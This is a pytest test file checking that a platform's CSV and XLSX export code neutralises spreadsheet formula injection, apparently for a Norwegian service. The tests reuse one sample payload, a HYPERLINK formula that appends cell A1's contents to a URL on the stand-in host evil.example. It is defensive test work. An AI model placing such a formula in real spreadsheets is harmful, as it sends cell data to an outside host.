"""Every CSV and XLSX the platform writes opens as data, never as a formula."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from lokalmaal.lib.spreadsheet import FORMULA_STARTS, append_xlsx_row, csv_writer, defuse

ATTACK = 'HYPERLINK("http://evil.example/?x="&A1,"klikk")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_gets_an_apostrophe(start: str):
    assert start in FORMULA_STARTS
    assert defuse(start + ATTACK) == "'" + start + ATTACK


@pytest.mark.parametrize(
    "value", ["Andel med solceller", "12,5", "-12,5", "-3", "+47", "1e-5", "", "a=b", 42, -1.5]
)
def test_ordinary_text_and_numbers_are_unchanged(value: object):
    assert defuse(value) == value


@pytest.mark.parametrize("value", ["-1+1", "+47 99 99 99 99", "-", "=", "@SUM(A1)"])
def test_text_that_only_looks_like_a_number_is_defused(value: str):
    assert defuse(value) == "'" + value


def test_the_csv_writer_defuses_every_cell_and_keeps_the_rest():
    buffer = io.StringIO()
    csv_writer(buffer, delimiter=";").writerows(
        [["tittel", "verdi"], ["=" + ATTACK, "-2,5"], ["\t=1+1", 3]]
    )
    rows = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert rows == [["tittel", "verdi"], ["'=" + ATTACK, "-2,5"], ["'\t=1+1", "3"]]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_xlsx_stores_formula_like_text_as_text(start: str):
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_xlsx_row(sheet, [start + ATTACK, -2.5, "Bergen", "-7"])
    output = io.BytesIO()
    book.save(output)
    reread = load_workbook(io.BytesIO(output.getvalue())).active
    assert reread is not None
    cell = reread["A1"]
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert cell.value == start + ATTACK  # the text itself is kept as typed
    assert reread["B1"].value == -2.5
    assert reread["C1"].value == "Bergen"
    assert reread["D1"].value == "-7"
